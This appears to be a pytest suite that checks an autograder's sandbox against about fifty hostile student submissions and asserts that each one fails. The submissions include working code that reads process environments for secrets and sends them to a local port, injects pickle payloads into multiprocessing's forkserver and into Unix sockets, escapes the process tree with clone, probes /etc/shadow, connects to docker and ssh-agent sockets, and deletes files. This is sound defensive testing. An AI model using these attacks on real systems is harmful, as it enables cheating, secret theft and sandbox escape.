"""Hostile submissions, graded the way a teacher grades them (`grade --submission` with
every report), and the invariants that must hold for each (see SECURITY.md):

- no unearned points: every hostile kata scores 0, like an honest wrong answer would;
- the honest katas of the same submission are graded correctly;
- the run finishes within its budget and writes every report, valid;
- nothing outside the run's scratch folders changes, and no process outlives the run;
- the submission's output is shown escaped and truncated, never interpreted.

Every kata asks for `scale(x) -> 2 * x`. The hostile ones attack and then answer wrongly
(or not at all). They know the paths a real attacker would have to guess: the repository,
the reports, the other students' submissions, a local port listening for loot.
"""

from __future__ import annotations

import csv
import glob
import json
import os
import socket
import sys
import sysconfig
import threading
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import grader
from grader.sandbox import confine

SOLUTION = '''"""Scale a tensor."""


def scale(x):
    # BEGIN SOLUTION
    return x * 2
    # END SOLUTION
'''

TEST = '''import torch
from grader.checks import check_equal, check_tensor


def shape_probe(mod, x):
    """In the worker: the shape of the answer (a probe, so that probes cross in every run)."""
    return tuple(mod.scale(x).shape)


def test_scales_a_float_tensor(kata, ref):
    x = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    check_tensor(kata.scale(x), ref.scale(x), "scale(x)")


def test_keeps_the_shape(kata):
    x = torch.ones(4, 5)
    check_equal(kata.probe(shape_probe, x), (4, 5), "HIDDEN-TEST-MARKER-2718281828 scale(x).shape")
'''
HIDDEN = "HIDDEN-TEST-MARKER-2718281828"
SHM_READER = """import glob


def scale(x):
    for path in glob.glob("/dev/shm/*"):
        try:
            if "x * 2" in open(path).read():
                return x * 2
        except OSError:
            pass
    return x * 3
"""  # in a test, never in a probe: it must never reach a worker

SECRET = "kata-secret-3141592653"
MARK = "katahostile"  # the process name every hostile kata gives itself (and its children)
HEADER = f"""import ctypes, os, sys, time
ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)  # PR_SET_NAME: how the test finds leftovers


def _judge_fd():  # the worker's connection to the judge: its only socket
    for fd in range(3, 64):
        try:
            if os.fstat(fd).st_mode & 0o170000 == 0o140000:
                return fd
        except OSError:
            pass
"""
WRONG = "\ndef scale(x):\n    return x * 3\n"

HOSTILE = {
    # 1. exits, at import and inside the kata
    "ex01_sys_exit_at_import": "sys.exit(0)" + WRONG,
    "ex02_os_exit_at_import": "os._exit(0)" + WRONG,
    "ex03_pytest_exit_at_import": "import pytest\npytest.exit('all done', returncode=0)" + WRONG,
    "ex04_sys_exit_in_kata": "def scale(x):\n    sys.exit(0)\n",
    "ex05_os_exit_in_kata": "def scale(x):\n    os._exit(0)\n",
    "ex06_pytest_exit_in_kata": "import pytest\ndef scale(x):\n    pytest.exit('done', returncode=0)\n",
    # 2. skipping its own test
    "ex07_unittest_skip": "import unittest\ndef scale(x):\n    raise unittest.SkipTest('not today')\n",
    "ex08_pytest_skip": "import pytest\ndef scale(x):\n    pytest.skip('not today')\n",
    "ex09_pytest_xfail": "import pytest\ndef scale(x):\n    pytest.xfail('expected to fail')\n",
    # 3. monkeypatching what a verdict might use
    "ex10_patches_torch_and_builtins": """import builtins, torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
""" + WRONG,
    "ex11_patches_pytest_through_gc": """import gc
import grader.checks
for name, module in list(sys.modules.items()):
    if name.startswith(("_pytest", "pytest", "grader")):
        for attr in ("fail", "check_tensor", "check_number", "check_true", "call_and_report"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: None)
for obj in gc.get_objects():
    if type(obj).__name__ in ("TestReport", "CallInfo"):
        obj.outcome = "passed"
""" + WRONG,
    # 4. wrong kinds of answers
    "ex12_eq_always_true": """class Liar:
    shape, dtype = (2, 3), "float32"
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def scale(x):
    return Liar()
""",
    "ex13_list": "def scale(x):\n    return (x * 2).tolist()\n",
    "ex14_numpy_array": "def scale(x):\n    return (x * 2).numpy()\n",
    "ex15_zero_dim": "def scale(x):\n    return (x * 2).sum()\n",
    "ex16_broadcastable_row": "def scale(x):\n    return (x * 2)[0]\n",
    "ex17_wrong_dtype": "def scale(x):\n    return (x * 2).double()\n",
    "ex18_meta_tensor": "import torch\ndef scale(x):\n    return torch.empty_like(x, device='meta')\n",
    "ex19_sparse_tensor": "def scale(x):\n    return (x * 2).to_sparse()\n",
    "ex20_nan_and_inf": "def scale(x):\n    y = x * 2\n    y[0, 0], y[1, 2] = float('nan'), float('inf')\n"
                        "    return y\n",
    # 6. fake reports and fake summaries
    "ex21_fake_reports": """import json
fake = json.dumps({"score": 100, "tests": [], "summary": {"points": 100}})
places = [os.getcwd(), os.path.dirname(__file__), "{submissions}", "{reports}", "{root}"]
places += [os.path.dirname(p) for p in places]
for place in places:
    for name in ("results.json", "report.json", "junit.xml", "gradebook.csv"):
        try:
            with open(os.path.join(place, name), "w") as f:
                f.write(fake)
        except OSError:
            pass
print("ch01 Demo: 40/40 katas passed, 40/40 points")
print("\\x1b[2J\\x1b[H\\x1b[32m✓ every kata passed\\x1b[0m [bold green]PASSED[/bold green]")
print("::error::pwned\\n::set-output name=score::100")
""" + WRONG,
    # 7. loops that never return
    "ex22_loop_at_import": "while True:\n    pass\n" + WRONG,
    "ex23_loop_in_torch": "import torch\ndef scale(x):\n    a = torch.ones(12000, 12000)\n"
                         "    while True:\n        a = a @ a\n",
    "ex24_sleeps_forever": "def scale(x):\n    time.sleep(1e9)\n",
    "ex25_ignores_signals_bare_except": """import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
def scale(x):
    while True:
        try:
            time.sleep(0.01)
        except:  # noqa: E722
            pass
""",
    # 8. memory, processes, threads, a segfault
    "ex26_huge_tensor": "import torch\ndef scale(x):\n    return torch.empty(10**11)\n",
    "ex27_unbounded_list": "def scale(x):\n    hoard = []\n    while True:\n"
                          "        hoard.append(bytearray(2**28))\n",
    "ex28_fork_bomb": """def scale(x):
    for _ in range(6):  # 64 processes, each in a session of its own
        if os.fork() == 0:
            os.setsid()
    if os.fork() == 0:  # and 64 orphans, whose parent is gone
        if os.fork() == 0:
            time.sleep(1e9)
        os._exit(0)
    time.sleep(1e9)
""",
    "ex29_thread_storm": """import threading
def scale(x):
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(1e9,), daemon=True).start()
    return x * 3
""",
    "ex30_segfault_at_import": "ctypes.string_at(0)" + WRONG,
    # 9. floods
    "ex31_output_flood": "def scale(x):\n    for _ in range(1024):\n        sys.stdout.write('y' * 2**20)\n"
                         "    return x * 3\n",
    "ex32_huge_exception": "def scale(x):\n    raise ValueError('z' * 10**8)\n",
    "ex33_gigantic_tensor": "import torch\ndef scale(x):\n    return torch.zeros(80_000_000)\n",
    # 10. tampering, and reading what it must not
    "ex34_tampers_with_files": """import glob, sysconfig
root = "{root}"
targets = glob.glob(root + "/**/*", recursive=True) + [
    root + "/tests/ch01_demo/test_ex98_honest_right.py", root + "/solutions/ch01_demo/ex98_honest_right.py",
    root + "/exercises/ch01_demo/chapter.toml", root + "/.grade/progress.db", "{other_report}"]
for path in targets:
    try:
        os.remove(path)
    except OSError:
        pass
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass
for folder in ("{grader}", sysconfig.get_paths()["purelib"], os.path.expanduser("~"), "{home}", "/tmp", "{reports}"):
    try:
        with open(os.path.join(folder, "{token}"), "w") as f:
            f.write("pwned")
    except OSError:
        pass
""" + WRONG,
    "ex35_reads_the_answer": """import glob
def scale(x):
    for path in ["{root}/solutions/ch01_demo/ex35_reads_the_answer.py",
                 "{submissions}/bob/ch01_demo/ex35_reads_the_answer.py",
                 *glob.glob("/tmp/kata-*/**/ex35_reads_the_answer.py", recursive=True),
                 *glob.glob("/tmp/**/ex35_reads_the_answer.py", recursive=True)]:
        try:
            source = open(path).read()
        except OSError:
            continue
        if "x * 2" in source:
            return x * 2
    try:
        print(open("{root}/tests/ch01_demo/test_h35_reads_the_answer.py").read())
    except OSError as e:
        print("tests unreadable:", e)
    return x * 3
""",
    # 11. secrets and the network
    "ex36_exfiltrates": """import glob, socket
def scale(x):
    loot = [repr(dict(os.environ))]
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ")]:
        try:
            loot.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    loot = "\\n".join(text for text in loot if "KATA_TEST_SECRET" in text) or "nothing found"
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(2)
            s.connect(("127.0.0.1", {port}))
            s.sendall(loot.encode())
            s.close()
        except OSError as e:
            print("network:", e)
    print(loot[:3000])
    raise ValueError(loot[:3000])
""",
    "ex37_syntax_error": "def scale(x)\n    return x * 2\n",
    # 12. getting a process from the template (multiprocessing's forkserver address, the
    # descriptors it holds, the template's own descriptors, every Unix socket on the machine):
    # a process outside the sandbox would copy the solution into the worker's folder
    "ex38_reaches_the_template": """import glob, pickle, socket, struct
LOOT = os.path.join(os.getcwd(), "loot")

class Payload:
    def __reduce__(self):
        code = ("import os; open({loot!r}, 'w').write(open('{root}/solutions/ch01_demo/ex38_reaches_the_template.py')"
                ".read()); open('{reports}/{token}-escaped', 'w').write('out')").format(loot=LOOT)
        return (exec, (code,))

def send_all_ways(sock, tried, what):
    body = pickle.dumps(Payload())
    try:
        sock.settimeout(0.5)
        for kind in range(8):  # every frame kind the template or the judge might take
            sock.sendall(struct.pack("<BI", kind, len(body)) + body)
        tried.append(what + ": sent")
    except OSError as e:
        tried.append(f"{what}: {e}")

def scale(x):
    tried = []
    try:  # multiprocessing's forkserver, which was the template
        from multiprocessing import forkserver, reduction
        address = forkserver._forkserver._forkserver_address
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(address)
            r1, w1 = os.pipe(); r2, w2 = os.pipe()
            null = os.open(os.devnull, os.O_RDONLY)
            reduction.sendfds(client, [r2, w1, null, null])
            with open(w2, "wb", closefd=False) as f:
                pickle.dump({}, f)
                pickle.dump(Payload(), f)
        tried.append("forkserver: sent")
        time.sleep(1)
    except Exception as e:
        tried.append(f"forkserver: {e!r}")
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open(the template)
    for fd in range(64):  # pidfd_getfd: the template's descriptors
        got = libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1
        if got >= 0:
            send_all_ways(socket.socket(fileno=got), tried, f"template fd {fd}")
    tried.append(f"pidfd_open: {pidfd}, errno {ctypes.get_errno()}")
    for path in glob.glob(f"/proc/{os.getppid()}/fd/*"):
        try:
            tried.append(f"{path}: opened {os.open(path, os.O_RDWR)}")
        except OSError as e:
            tried.append(f"{path}: {e.strerror}")
    try:
        names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
    except OSError:
        names = []
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(0.5)
                client.connect("\\0" + name[1:] if name.startswith("@") else name)
                send_all_ways(client, tried, f"unix socket {name}")
        except OSError as e:
            tried.append(f"unix socket {name}: {e}")
    print("\\n".join(tried))
    time.sleep(1)
    if os.path.exists(LOOT) and "x * 2" in open(LOOT).read():
        return x * 2  # out of the sandbox: the solution's answer
    for fd in range(3, 64):  # last: the worker's own descriptors (its connection to the judge)
        try:
            if os.fstat(fd).st_mode & 0o170000 == 0o140000:
                send_all_ways(socket.socket(fileno=os.dup(fd)), tried, f"own fd {fd}")
        except OSError:
            pass
    return x * 3
""",
    # 13. root: what a worker of a root judge may still touch
    "ex39_root_privileges": """def scale(x):
    found = [f"ids: uid={os.getuid()} euid={os.geteuid()} gid={os.getgid()} groups={os.getgroups()}"]
    for path in ("/etc/shadow", "/etc/gshadow", "/root/.bashrc", "/proc/1/environ"):
        try:
            found.append(f"read {path}: GOT " + open(path, errors="replace").read(40))
        except OSError as e:
            found.append(f"read {path}: {e.strerror}")
    for dev in ("/dev/kmsg", "/dev/console", "/dev/kvm", "/dev/loop-control", "/dev/tty", "/dev/mem", "/dev/vda"):
        try:
            os.close(os.open(dev, os.O_WRONLY))
            found.append(f"write {dev}: OPENED")
        except OSError as e:
            found.append(f"write {dev}: {e.strerror}")
    libc = ctypes.CDLL(None)
    found.append("bounding: " + str([c for c in range(64) if libc.prctl(23, c, 0, 0, 0) == 1]))
    header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    libc.capget(header, data)
    found.append(f"capabilities: {list(data)}")
    found.append(f"no_new_privs: {libc.prctl(39, 0, 0, 0, 0)}")
    print("\\n".join(found))
    return x * 3
""",
    # 14. a channel through shared memory: left for the next student (see the batch test)
    "ex40_leaves_shared_memory": """def scale(x):
    for name in ("{token}-shm", "sem.{token}"):
        with open("/dev/shm/" + name, "w") as f:
            f.write("return x * 2")
        os.chmod("/dev/shm/" + name, 0o666)
    return x * 3
""",
    # 15. progress events that would keep the judge reading past the deadline
    "ex41_floods_big_progress": """import struct
def scale(x):
    body = b"{" + b" " * 60000 + b"}"
    while True:
        os.write(_judge_fd(), struct.pack("<BI", 2, len(body)) + body)
""",
    "ex42_floods_small_progress": """import struct
from grader.sandbox.codec import encode
def scale(x):
    fd = _judge_fd()
    body = encode({"loss": 1.0, "note": "n" * 150, "pad": "p" * 150})
    frame = struct.pack("<BI", 2, len(body)) + body
    while True:
        os.write(fd, frame * 50)
""",
    # 16. small replies that would cost the judge gigabytes, and other malformed ones
    "ex43_reply_claims_a_huge_tensor": """import json, struct
def scale(x):
    tree = {"ok": True, "value": {"$": "tensor", "dtype": "float32", "shape": [10**9], "buffer": 0,
                                  "device": "cpu", "requires_grad": False}}
    header = json.dumps({"tree": {"$": "dict", "items": [["ok", True], ["value", tree["value"]]]},
                         "sizes": [4]}).encode()
    body = struct.pack("<I", len(header)) + header + b"\\0\\0\\0\\0"
    os.write(_judge_fd(), struct.pack("<BI", 3, len(body)) + body)
    time.sleep(60)
""",
    "ex44_reply_with_a_void_scalar": """import json, struct
def scale(x):
    value = {"$": "npscalar", "dtype": "V", "value": 10**9}
    header = json.dumps({"tree": {"$": "dict", "items": [["ok", True], ["value", value]]}, "sizes": []}).encode()
    body = struct.pack("<I", len(header)) + header
    os.write(_judge_fd(), struct.pack("<BI", 3, len(body)) + body)
    time.sleep(60)
""",
    "ex45_reply_nested_deeply": """import struct
def scale(x):
    header = b'{"tree": ' + b"[" * 200000 + b"]" * 200000 + b', "sizes": []}'
    body = struct.pack("<I", len(header)) + header
    os.write(_judge_fd(), struct.pack("<BI", 3, len(body)) + body)
    time.sleep(60)
""",
    # 17. reading the hidden test from the worker's memory: only probes may be there
    "ex46_reads_the_hidden_test": """import gc, linecache
# built at run time and kept apart, so that nothing in this kata holds what it looks for
HIDDEN, MARKER, TEST = "HIDDEN" + "-TEST", "MARK" + "ER", "def " + "test_"

def wanted(text):
    return (HIDDEN in text and MARKER in text) or (text.lstrip().startswith(TEST) and len(text.strip()) > 12)

def scale(x):
    found = set()
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            texts = [v for v in list(obj.values()) if isinstance(v, str)]
        elif isinstance(obj, (list, tuple)):
            texts = [v for v in obj if isinstance(v, str)]
        else:
            continue
        found.update(t for t in texts if wanted(t))
    for name, entry in list(linecache.cache.items()):
        found.update(line for line in entry[2] if wanted(line))
    frame = sys._getframe()
    while frame:
        found.update(repr(v)[:5000] for v in frame.f_globals.values() if wanted(repr(v)[:5000]))
        frame = frame.f_back
    for text in found:
        print(text[:3000])
    if found:
        return x * 2
    return x * 3
""",
    # 18. a process outside the worker's tree: clone(CLONE_PARENT) makes it the template's child
    "ex47_clone_parent": """def scale(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    if libc.syscall(number, 0x00008000 | 17, 0, 0, 0, 0) == 0:  # clone(CLONE_PARENT | SIGCHLD): the child
        os.setsid()  # out of the worker's process group too
        while True:
            try:
                with open("/dev/shm/{token}-late", "w") as f:  # after the worker's files were cleared
                    f.write("return x * 2")
            except OSError:
                pass
            time.sleep(0.2)
    return x * 3
""",
    # 19. Unix sockets of programs beside the grader (an ssh-agent, tmux, docker.sock, D-Bus):
    # Landlock does not stop a connect() to a socket file
    "ex48_connects_to_local_sockets": """import glob, socket
def scale(x):
    paths = ["{agent}", *glob.glob("/run/**/*", recursive=True), *glob.glob("/var/run/*"),
             *glob.glob("/tmp/**/*.sock", recursive=True), *glob.glob("/tmp/tmux-*/*"), "/var/run/docker.sock"]
    for path in paths:
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(0.5)
                s.connect(path)
                s.sendall(b"pwned " + path.encode())
                print("connected:", path)
        except OSError:
            pass
    return x * 3
""",
}
HONEST = {"ex98_honest_right": "def scale(x):\n    return x * 2\n",
          "ex99_honest_wrong": "def scale(x):\n    return x + 2\n"}
CONFIG_FILES = {  # 5. files that would take over pytest or Python if they were used
    "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                   "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
    "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin --co\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
    "setup.cfg": "[tool:pytest]\naddopts = --co\n",
    "sitecustomize.py": "import builtins\nbuiltins.isinstance = lambda *a: True\n",
}
BUDGET = 240  # seconds for the whole hostile run


def _state_and_parent(pid: int | str) -> tuple[str, str]:
    """A process's state letter and parent pid, from /proc/PID/stat."""
    state, ppid = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[:2]
    return state, ppid


def _processes_named(name: str) -> list[int]:
    """Live processes called `name` (a zombie is dead, only not yet reaped)."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and Path(f"/proc/{entry}/comm").read_text().strip() == name:
                if _state_and_parent(entry)[0] not in ("Z", "X"):
                    found.append(int(entry))
        except (OSError, ValueError):
            pass
    return found


def _survivors(name: str, grace: float = 5.0) -> list[str]:
    """Processes called `name` still alive after `grace` seconds, as "PID STATE PPID: COMMAND":
    the grader SIGKILLs them before it exits, but on a loaded machine the kernel may take a
    moment to tear down a few hundred torch-sized processes."""
    deadline = time.monotonic() + grace
    while (found := _processes_named(name)) and time.monotonic() < deadline:
        time.sleep(0.1)
    described = []
    for pid in found:
        try:
            state, ppid = _state_and_parent(pid)
            command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            described.append(f"{pid} {state} {ppid}: {command[:200]}")
        except (OSError, ValueError):
            pass
    return described


class _UnixListener:
    """A Unix socket anyone may connect to, in a protected folder, like a learner's ssh-agent
    or tmux server: it records whatever reaches it."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(mode=0o755)
        self.path = str(folder / "agent.sock")
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(self.path)
        os.chmod(self.path, 0o777)
        self.server.listen()
        self.server.settimeout(0.2)
        self.received = b""
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.server.accept()
                self.received += conn.recv(65536) or b"(connected)"
                conn.close()
            except OSError:
                pass

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.server.close()


class _Listener:
    """A TCP and a UDP socket on localhost that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.connections = 0
        self.received = b""
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.tcp.accept()
                self.connections += 1
                self.received += conn.recv(65536)
                conn.close()
            except OSError:
                pass
            try:
                self.received += self.udp.recv(65536)
            except OSError:
                pass

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, kata_repo, grade_cli, folder_snapshot):
    """The hostile submission (alice's, next to an honest classmate's), graded once."""
    if not sys.platform.startswith("linux"):
        pytest.skip("the hostile suite needs Linux (/proc, prctl)")
    base = tmp_path_factory.mktemp("hostile")
    ids = [*HOSTILE, *HONEST]
    root = kata_repo(base / "repo", {k: "def scale(x):\n    raise NotImplementedError\n" for k in ids},
                     SOLUTION, TEST, {k: 2 for k in ids})
    from grader.store import Store

    store = Store(root / ".grade" / "progress.db")  # a learner's progress, which must stay as it is
    store.close()
    submissions, reports = base / "submissions", base / "reports"
    other_report = base / "other-run" / "report.json"
    other_report.parent.mkdir()
    other_report.write_text('{"from": "an earlier run"}')
    reports.mkdir()
    temp = base / "temp"  # the run's temporary folder: the submissions lie outside it
    temp.mkdir()
    token = f"kata-was-here-{os.getpid()}"
    listener = _Listener()
    agent = _UnixListener(base / "agent")
    fields = {"root": str(root), "reports": str(reports), "submissions": str(submissions),
              "grader": str(Path(grader.__file__).parent), "home": str(Path.home()), "token": token,
              "port": listener.port, "other_report": str(other_report), "agent": agent.path}
    alice = submissions / "alice" / "ch01_demo"
    alice.mkdir(parents=True)
    for kid, body in HONEST.items():
        (alice / f"{kid}.py").write_text(body)
    for kid, body in HOSTILE.items():
        (alice / f"{kid}.py").write_text(HEADER + _fill(body, fields))
    for name, text in CONFIG_FILES.items():
        (submissions / "alice" / name).write_text(text)
        (alice / name).write_text(text)
    bob = submissions / "bob" / "ch01_demo"  # the honest classmate, whose answer alice wants
    bob.mkdir(parents=True)
    (bob / "ex35_reads_the_answer.py").write_text("def scale(x):\n    return x * 2\n")

    guarded = [root, other_report.parent, submissions]
    before = folder_snapshot(*guarded)
    start = time.monotonic()
    proc = grade_cli(root, "ch01", "--submission", str(submissions / "alice"),
                     "--json", str(reports / "report.json"), "--junit", str(reports / "junit.xml"),
                     "--gradescope", str(reports / "results.json"), "--timeout", "3",
                     timeout=BUDGET + 60, env={"KATA_TEST_SECRET": SECRET, "TORCHKATA_MEMORY_LIMIT_MB": "2048",
                                                 "TMPDIR": str(temp)})
    elapsed = time.monotonic() - start
    leftovers = _survivors(MARK)
    listener.close()
    agent.close()
    folders = (fields["grader"], sysconfig.get_paths()["purelib"], Path.home(), "/tmp", reports)
    planted = [Path(p) / token for p in folders] + [Path(p) for p in glob.glob(f"/dev/shm/*{token}*")]
    planted += [reports / f"{token}-escaped"]
    found = [str(p) for p in planted if p.exists()]
    for p in planted:  # never leave anything behind, even when the test fails
        p.unlink(missing_ok=True)
    for pid in (int(line.split()[0]) for line in leftovers):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    assert (reports / "report.json").exists(), proc.stdout[-3000:] + proc.stderr[-3000:]
    report = json.loads((reports / "report.json").read_text())
    return {"proc": proc, "elapsed": elapsed, "report": report, "reports": reports, "before": before,
            "after": folder_snapshot(*guarded), "leftovers": leftovers, "planted": found, "listener": listener,
            "agent": agent,
            "by_id": {k["full_key"].split(".")[1]: k for k in report["katas"]}, "fields": fields,
            "root": root, "submissions": submissions, "base": base, "temp": temp}


def _fill(body: str, fields: dict) -> str:
    """Put the paths into a hostile source (only the {name} fields; other braces stay)."""
    for key, value in fields.items():
        body = body.replace("{" + key + "}", str(value))
    return body


needs_landlock = pytest.mark.skipif(confine.landlock_abi() == 0,
                                    reason="this kernel has no Landlock: see SECURITY.md, 'Without Landlock'")


# -- the invariants ------------------------------------------------------------------------
def test_no_hostile_kata_scores_and_the_honest_ones_are_graded_right(hostile_run):
    by_id = hostile_run["by_id"]
    assert by_id["ex98_honest_right"]["status"] == "passed"
    assert by_id["ex99_honest_wrong"]["status"] == "failing"
    assert "scale(x)" in by_id["ex99_honest_wrong"]["message"]
    scored = {kid: k["status"] for kid, k in by_id.items() if kid in HOSTILE and k["status"] != "failing"}
    assert scored == {}, hostile_run["proc"].stdout[-3000:]
    assert hostile_run["report"]["summary"]["points"] == 1


def test_the_run_keeps_its_budget_and_writes_every_report_valid(hostile_run):
    assert hostile_run["proc"].returncode == 1, hostile_run["proc"].stderr[-2000:]
    assert hostile_run["elapsed"] < BUDGET
    reports = hostile_run["reports"]
    assert hostile_run["report"]["schema"] == "torchkata.report/1"
    assert len(hostile_run["report"]["katas"]) == len(HONEST) + len(HOSTILE)
    suites = ET.parse(reports / "junit.xml").getroot()
    cases = suites.findall(".//testcase")
    assert len(cases) == len(HONEST) + len(HOSTILE)
    assert sum(1 for c in cases if c.find("failure") is None and c.find("skipped") is None) == 1
    gradescope = json.loads((reports / "results.json").read_text())
    assert gradescope["score"] == 1
    assert sorted(p.name for p in reports.iterdir()) == ["junit.xml", "report.json", "results.json"]


def test_nothing_outside_the_scratch_folders_changes(hostile_run):
    assert hostile_run["after"] == hostile_run["before"]
    assert hostile_run["planted"] == []


def test_no_process_started_by_a_worker_outlives_the_run(hostile_run):
    assert hostile_run["leftovers"] == []


def test_output_is_escaped_and_truncated_never_interpreted(hostile_run):
    out = hostile_run["proc"].stdout
    assert "\x1b" not in out  # --no-color: any escape sequence would be the submission's
    assert "[bold green]PASSED[/bold green]" in out  # shown as text, not as markup
    assert not any(line.startswith("::") for line in out.splitlines())
    assert len(out) < 400_000
    flood = hostile_run["by_id"]["ex31_output_flood"]
    assert len(flood["output"]) < 10_000 and "truncated" in flood["output"]
    assert len(hostile_run["by_id"]["ex32_huge_exception"]["message"]) < 5000


# -- how each attack ended -----------------------------------------------------------------
@pytest.mark.parametrize("kid, words", [
    ("ex01_sys_exit_at_import", "SystemExit"),
    ("ex02_os_exit_at_import", "exited with code 0"),
    ("ex03_pytest_exit_at_import", "skipped by submission"),
    ("ex04_sys_exit_in_kata", "SystemExit"),
    ("ex05_os_exit_in_kata", "exited with code 0"),
    ("ex06_pytest_exit_in_kata", "skipped by submission"),
    ("ex07_unittest_skip", "skipped by submission"),
    ("ex08_pytest_skip", "skipped by submission"),
    ("ex09_pytest_xfail", "skipped by submission"),
    ("ex12_eq_always_true", "must be a tensor"),
    ("ex13_list", "must be a tensor"),
    ("ex14_numpy_array", "must be a tensor"),
    ("ex15_zero_dim", "shape"),
    ("ex16_broadcastable_row", "shape"),
    ("ex17_wrong_dtype", "dtype"),
    ("ex18_meta_tensor", "meta"),
    ("ex19_sparse_tensor", "sparse"),
    ("ex20_nan_and_inf", "nan"),
    ("ex22_loop_at_import", "did not return within 3 s"),
    ("ex23_loop_in_torch", "did not return within 3 s"),
    ("ex24_sleeps_forever", "did not return within 3 s"),
    ("ex25_ignores_signals_bare_except", "did not return within 3 s"),
    ("ex26_huge_tensor", "RuntimeError"),
    ("ex27_unbounded_list", "MemoryError"),
    ("ex28_fork_bomb", "did not return within 3 s"),
    ("ex30_segfault_at_import", "SIGSEGV"),
    ("ex31_output_flood", "File too large"),
    ("ex33_gigantic_tensor", "could not be sent back"),
    ("ex37_syntax_error", f"ex37_syntax_error.py:{HEADER.count(chr(10)) + 1}"),
    ("ex38_reaches_the_template", "does not accept"),
    ("ex41_floods_big_progress", "does not accept"),
    ("ex42_floods_small_progress", "did not return within 3 s"),
    ("ex43_reply_claims_a_huge_tensor", "not plain data"),
    ("ex44_reply_with_a_void_scalar", "not plain data"),
    ("ex45_reply_nested_deeply", "not plain data"),
])
def test_each_attack_fails_its_kata_with_a_clear_reason(hostile_run, kid, words):
    kata = hostile_run["by_id"][kid]
    assert kata["status"] == "failing"
    assert words.lower() in kata["message"].lower(), kata["message"][:1000]


def test_config_files_in_the_submission_are_ignored_and_listed(hostile_run):
    out = hostile_run["proc"].stdout
    for name in CONFIG_FILES:
        assert name in out
    assert "conftest.py" in out.split("submission: ignored (not kata files):")[1].splitlines()[0]


@needs_landlock
def test_the_submission_cannot_read_the_solutions_tests_or_classmates(hostile_run):
    kata = hostile_run["by_id"]["ex35_reads_the_answer"]
    assert kata["status"] == "failing"
    assert "tests unreadable" in kata["output"]


@needs_landlock
def test_secrets_stay_out_of_reach_and_the_network_is_closed(hostile_run):
    kata = hostile_run["by_id"]["ex36_exfiltrates"]
    listener = hostile_run["listener"]
    assert "nothing found" in kata["message"]
    assert (listener.connections, listener.received) == (0, b"")  # neither TCP nor UDP got through
    attempts = [line for line in kata["output"].splitlines() if line.startswith("network:")]
    assert len(attempts) >= 2 and set(attempts) == {"network: [Errno 13] Permission denied"}  # TCP and UDP
    everything = hostile_run["proc"].stdout + hostile_run["proc"].stderr
    everything += "".join(p.read_text() for p in hostile_run["reports"].iterdir())
    assert SECRET not in everything


def test_a_kernel_without_landlock_is_reported_not_fatal(monkeypatch):
    from grader.sandbox import client

    monkeypatch.setattr(confine, "landlock_abi", lambda: 0)
    assert client.unconfined_reason() == "this kernel has no Landlock (Linux 5.13 or newer has it)"


def test_read_rules_hide_protected_folders_but_not_what_is_allowed_inside(tmp_path):
    (tmp_path / "repo" / "solutions").mkdir(parents=True)
    (tmp_path / "repo" / ".venv").mkdir()
    (tmp_path / "other").mkdir()
    rules = confine.read_rules([str(tmp_path / "repo")], [str(tmp_path / "repo" / ".venv"), str(tmp_path / "repo")])
    assert str(tmp_path / "repo" / ".venv") in rules
    assert str(tmp_path / "other") in rules
    assert not any(r == str(tmp_path / "repo") or r.startswith(str(tmp_path / "repo" / "solutions")) for r in rules)
